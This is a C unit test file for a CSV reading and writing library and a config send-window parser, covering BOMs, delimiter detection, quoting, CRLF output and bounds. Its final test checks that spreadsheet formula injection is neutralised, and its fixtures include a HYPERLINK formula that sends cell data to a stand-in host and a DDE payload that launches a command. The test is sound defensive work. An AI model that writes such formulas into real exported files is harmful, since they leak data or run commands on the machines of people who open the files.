/* test_csvio.c -- CSV reading and writing (sys/csvio, the libcsv wrapper):
 * BOM, delimiter detection, line numbers across quoted line breaks, blank
 * and empty rows, bounds, and the writer's quoting, CRLF and BOM; plus the
 * send window parser of the config (config_send_window_parse). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include "config/config.h"
#include "sys/csvio.h"

static void test_bom_semicolons_and_lines(void **state)
{
    (void)state;
    const char in[] = "\xEF\xBB\xBF"
                      "code;nom;province\r\n"
                      "0101;\"Argane; Berkane\";berkane\r\n"
                      "\r\n"
                      "0102;\"Multi\nline\";nador\r\n"
                      ";;\r\n"
                      "0103;تعاونية;figuig";
    struct csvio_table t;
    char err[160];
    assert_int_equal(csvio_parse(in, sizeof in - 1, &t, err, sizeof err), 0);
    assert_true(t.had_bom);
    assert_int_equal(t.delimiter, ';');
    assert_int_equal(t.nrows, 4);
    assert_string_equal(t.rows[0].fields[1], "nom");
    assert_int_equal(t.rows[1].line, 2);
    assert_string_equal(t.rows[1].fields[1], "Argane; Berkane");
    assert_int_equal(t.rows[2].line, 4);
    assert_string_equal(t.rows[2].fields[1], "Multi\nline");
    assert_int_equal(t.rows[3].line, 7);
    assert_string_equal(t.rows[3].fields[1], "تعاونية");
    assert_string_equal(t.rows[3].fields[2], "figuig");
    csvio_table_free(&t);
}

static void test_commas_without_bom(void **state)
{
    (void)state;
    const char in[] = "phone,name\n0612345678,\"Say \"\"hi\"\"\"\n";
    struct csvio_table t;
    char err[160];
    assert_int_equal(csvio_parse(in, sizeof in - 1, &t, err, sizeof err), 0);
    assert_false(t.had_bom);
    assert_int_equal(t.delimiter, ',');
    assert_int_equal(t.nrows, 2);
    assert_string_equal(t.rows[1].fields[1], "Say \"hi\"");
    csvio_table_free(&t);
}

static void test_empty_and_too_wide(void **state)
{
    (void)state;
    struct csvio_table t;
    char err[160];
    assert_int_equal(csvio_parse("\r\n\r\n", 4, &t, err, sizeof err), -1);
    assert_non_null(strstr(err, "empty"));
    csvio_table_free(&t);
    char wide[CSVIO_FIELDS_MAX * 2 + 8];
    size_t n = 0;
    for (int i = 0; i < CSVIO_FIELDS_MAX + 1; i++) {
        wide[n++] = 'a';
        wide[n++] = ',';
    }
    wide[n++] = '\n';
    assert_int_equal(csvio_parse(wide, n, &t, err, sizeof err), -1);
    assert_non_null(strstr(err, "too many fields"));
    csvio_table_free(&t);
}

static void test_writer(void **state)
{
    (void)state;
    struct csvio_out o;
    csvio_out_init(&o, 1024, ',');
    csvio_out_field(&o, "code");
    csvio_out_field(&o, "name");
    csvio_out_end_row(&o);
    csvio_out_field(&o, "0101");
    csvio_out_field(&o, "تعاونية \"الأمل\", وجدة");
    csvio_out_field(&o, NULL);
    csvio_out_end_row(&o);
    assert_false(o.failed);
    const char want[] = "\xEF\xBB\xBF\"code\",\"name\"\r\n"
                        "\"0101\",\"تعاونية \"\"الأمل\"\", وجدة\",\"\"\r\n";
    assert_int_equal(o.len, sizeof want - 1);
    assert_memory_equal(o.data, want, o.len);
    free(o.data);
    csvio_out_init(&o, 8, ',');
    csvio_out_field(&o, "far too long for eight bytes");
    assert_true(o.failed);
    free(o.data);
}

/* The separator a French or Arabic spreadsheet expects, or a tab; a
 * streamed export drops what it sent; tab-separated files read back with
 * the spaces and empty cells as written. */
static void test_separators_and_consume(void **state)
{
    (void)state;
    struct csvio_out o;
    csvio_out_init(&o, 1024, ';');
    csvio_out_field(&o, "1,5");
    csvio_out_field(&o, "a;b");
    csvio_out_end_row(&o);
    const char semi[] = "\xEF\xBB\xBF\"1,5\";\"a;b\"\r\n";
    assert_int_equal(o.len, sizeof semi - 1);
    assert_memory_equal(o.data, semi, o.len);
    csvio_out_consume(&o, 3);
    assert_string_equal(o.data, "\"1,5\";\"a;b\"\r\n");
    csvio_out_consume(&o, 100);
    assert_int_equal(o.len, 0);
    free(o.data);

    csvio_out_init(&o, 1024, '\t');
    csvio_out_field(&o, "phone");
    csvio_out_field(&o, "name");
    csvio_out_field(&o, "note");
    csvio_out_end_row(&o);
    csvio_out_field(&o, "+212611000002");
    csvio_out_field(&o, " Fatima, Zahra ");
    csvio_out_field(&o, NULL);
    csvio_out_end_row(&o);
    struct csvio_table t;
    char err[128];
    assert_int_equal(csvio_parse(o.data, o.len, &t, err, sizeof err), 0);
    assert_int_equal(t.delimiter, '\t');
    assert_int_equal(t.nrows, 2);
    assert_int_equal(t.rows[1].nfields, 3);
    assert_string_equal(t.rows[1].fields[0], "+212611000002");
    assert_string_equal(t.rows[1].fields[1], " Fatima, Zahra ");
    assert_string_equal(t.rows[1].fields[2], "");
    csvio_table_free(&t);
    free(o.data);
    /* Unquoted, a tab file's cells keep no tab and lose only spaces. */
    const char plain[] = "code\tname\n0101\t Coop Argane \n";
    assert_int_equal(csvio_parse(plain, sizeof plain - 1, &t, err, sizeof err), 0);
    assert_int_equal(t.delimiter, '\t');
    assert_string_equal(t.rows[1].fields[1], "Coop Argane");
    csvio_table_free(&t);
}

static void test_send_window(void **state)
{
    (void)state;
    int a, b;
    assert_int_equal(config_send_window_parse("", &a, &b), 0);
    assert_int_equal(a, -1);
    assert_int_equal(config_send_window_parse("08:00-20:00", &a, &b), 0);
    assert_int_equal(a, 480);
    assert_int_equal(b, 1200);
    assert_int_equal(config_send_window_parse("22:30-06:00", &a, &b), 0);
    assert_int_equal(a, 1350);
    assert_int_equal(b, 360);
    assert_int_equal(config_send_window_parse("00:00-24:00", &a, &b), -1); /* always: use "" */
    assert_int_equal(config_send_window_parse("08:00-24:00", &a, &b), 0);
    assert_int_equal(b, 1440);
    static const char *const bad[] = {"8:00-20:00",  "08:00-08:00", "08:60-20:00",
                                      "25:00-01:00", "08:00 20:00", "08:00-20:00x"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        assert_int_equal(config_send_window_parse(bad[i], &a, &b), -1);
}

/* OWASP CSV injection: cells a spreadsheet would run are written with a
 * leading apostrophe, plain numbers are not, and reading the file back gives
 * every value exactly as it was. */
static void test_formulas_neutralised_and_round_trip(void **state)
{
    (void)state;
    static const char *const cells[] = {
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"Voir\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tleading tab",
        "\rleading cr",
        "'=already quoted",
        "+212612345678",
        "-5",
        "1500.50",
        "Fatima Zahra",
        "'plain apostrophe",
        "",
    };
    static const bool neutral[] = {true,  true,  true,  true,  true,  true, true,
                                   false, false, false, false, false, false};
    size_t n = sizeof cells / sizeof cells[0];
    struct csvio_out o;
    csvio_out_init(&o, 1 << 16, ',');
    csvio_out_field(&o, "value");
    csvio_out_end_row(&o);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(csvio_needs_neutralising(cells[i], strlen(cells[i])), neutral[i]);
        csvio_out_field(&o, cells[i]);
        csvio_out_field(&o, "x"); /* keep rows of empty cells from being skipped */
        csvio_out_end_row(&o);
    }
    assert_false(o.failed);
    assert_non_null(strstr(o.data, "\"'=HYPERLINK("));
    assert_non_null(strstr(o.data, "\"'@SUM(A1:A2)\""));
    assert_non_null(strstr(o.data, "\"'-2+3\""));
    assert_non_null(strstr(o.data, "\"''=already quoted\""));
    assert_non_null(strstr(o.data, "\"+212612345678\""));
    assert_null(strstr(o.data, "\"'+212"));
    struct csvio_table t;
    char err[160];
    assert_int_equal(csvio_parse(o.data, o.len, &t, err, sizeof err), 0);
    assert_int_equal(t.nrows, n + 1);
    for (size_t i = 0; i < n; i++) {
        /* Unquoted spaces are trimmed by the reader; ours are all quoted. */
        assert_string_equal(t.rows[i + 1].fields[0], cells[i]);
    }
    csvio_table_free(&t);
    free(o.data);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_bom_semicolons_and_lines),
        cmocka_unit_test(test_commas_without_bom),
        cmocka_unit_test(test_empty_and_too_wide),
        cmocka_unit_test(test_writer),
        cmocka_unit_test(test_separators_and_consume),
        cmocka_unit_test(test_send_window),
        cmocka_unit_test(test_formulas_neutralised_and_round_trip),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
